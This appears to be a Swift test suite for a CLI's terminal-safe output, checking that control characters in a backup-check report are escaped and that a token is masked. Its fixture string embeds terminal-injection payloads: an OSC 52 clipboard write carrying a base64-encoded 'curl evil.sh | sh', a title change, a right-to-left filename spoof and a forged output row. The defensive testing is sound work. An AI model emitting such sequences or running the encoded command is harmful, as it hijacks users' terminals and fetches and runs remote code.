import Foundation
import Testing
@testable import PaperDomain

/// `check`'s table and `--json` with a drill-record message that carries terminal escapes
/// (a title change, an OSC 52 clipboard write, a C1 CSI, a right-to-left override).
@Suite("check output with terminal escapes from the cluster")
struct CheckOutputSafetyTests {
    static let hostile = "drill passed\u{1B}]0;pwned\u{07}\u{1B}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{07}\u{9B}2J \u{202E}fdp.exe\nOK   fake-row"

    static func report() -> CheckReport {
        CheckReport(context: "demo", namespace: "paperless-ngx", now: 1_800_000_000, checks: [
            CheckResult(id: .fileBackups, verdict: .warn, reason: hostile, evidence: [hostile],
                        hint: "run it", command: "kubectl exec --token s3cr3t-token -- restic unlock"),
        ])
    }

    @Test func theTableShowsEveryControlEscapedOnItsOwnLine() {
        let table = Self.report().table()
        #expect(table == #"""
        paperctl check: context demo, namespace paperless-ngx, 2027-01-15T08:00:00Z: WARN

        STATUS  CHECK         REASON
        WARN    file-backups  drill passed\u{1B}]0;pwned\u{7}\u{1B}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{9B}2J \u{202E}fdp.exe\u{A}OK   fake-row

        [WARN] file-backups: File backups (restic)
          - drill passed\u{1B}]0;pwned\u{7}\u{1B}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{9B}2J \u{202E}fdp.exe\u{A}OK   fake-row
          next: run it
          run:  kubectl exec --token *** -- restic unlock

        """#)
        #expect(!table.unicodeScalars.contains { $0 != "\n" && TerminalText.isControl($0.value) })
    }

    @Test func theJSONEscapesC1AndBidiTooAndStillSaysTheSame() throws {
        let json = Self.report().json()
        #expect(!json.unicodeScalars.contains { $0 != "\n" && TerminalText.isControl($0.value) }, "a raw control byte in --json")
        #expect(json.contains(#"drill passed\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u009b2J \u202efdp.exe\nOK   fake-row"#))
        let decoded = try JSONDecoder().decode(CheckReport.self, from: Data(json.utf8))
        #expect(decoded.checks.first?.reason == Self.hostile, "a machine reading --json gets the message as it was")
        #expect(decoded.checks.first?.command == "kubectl exec --token *** -- restic unlock")
    }
}

// MARK: - Terminal-safe text

@Suite("Terminal-safe text")
struct TerminalTextTests {
    @Test(arguments: [
        ("a\u{1B}]52;c;ZWNobyBoaQ==\u{07}b", #"a\u{1B}]52;c;ZWNobyBoaQ==\u{7}b"#),
        ("\u{9B}31mred", #"\u{9B}31mred"#),
        ("tab\there\r\n", #"tab\u{9}here\u{D}\u{A}"#),
        ("del\u{7F}", #"del\u{7F}"#),
        ("abc\u{202E}fdp.exe", #"abc\u{202E}fdp.exe"#),
        ("\u{2066}x\u{2069}\u{200E}\u{200F}\u{061C}", #"\u{2066}x\u{2069}\u{200E}\u{200F}\u{61C}"#),
        (#"a literal \u{1B} is left as it is"#, #"a literal \u{1B} is left as it is"#),
        ("Dokument „Rechnung März“ 日本 ✔", "Dokument „Rechnung März“ 日本 ✔"),
    ])
    func controlsBecomeVisibleEscapes(input: String, expected: String) {
        #expect(TerminalText.safe(input) == expected)
        #expect(!TerminalText.safe(input).unicodeScalars.contains { TerminalText.isControl($0.value) })
    }

    @Test func applyingItTwiceChangesNothingMore() {
        let once = TerminalText.safe("a\u{1B}]52;c;x\u{7}\u{9B}\u{202E}")
        #expect(TerminalText.safe(once) == once)
    }

    @Test func newlinesAreKeptOnlyWhenAsked() {
        #expect(TerminalText.safe("a\nb\u{1B}", newlines: true) == "a\nb\\u{1B}")
        #expect(TerminalText.safe("a\nb", newlines: false) == #"a\u{A}b"#)
    }

    @Test func jsonEscapesC1DelAndBidiAndStillDecodes() throws {
        let json = "{\"m\":\"a\u{9B}b\u{7F}c\u{202E}d\"}"
        let safe = TerminalText.json(json)
        #expect(safe == #"{"m":"a\u009bb\u007fc\u202ed"}"#)
        let decoded = try JSONSerialization.jsonObject(with: Data(safe.utf8)) as? [String: String]
        #expect(decoded?["m"] == "a\u{9B}b\u{7F}c\u{202E}d", "the document means the same")
    }

    @Test func wideCharactersTakeTwoCells() {
        #expect(TerminalText.width("日本語 ok") == 9)
        #expect(TerminalText.width("✔ ▲ ✖") == 5)
        #expect(TerminalText.width("🙂") == 2)
    }
}
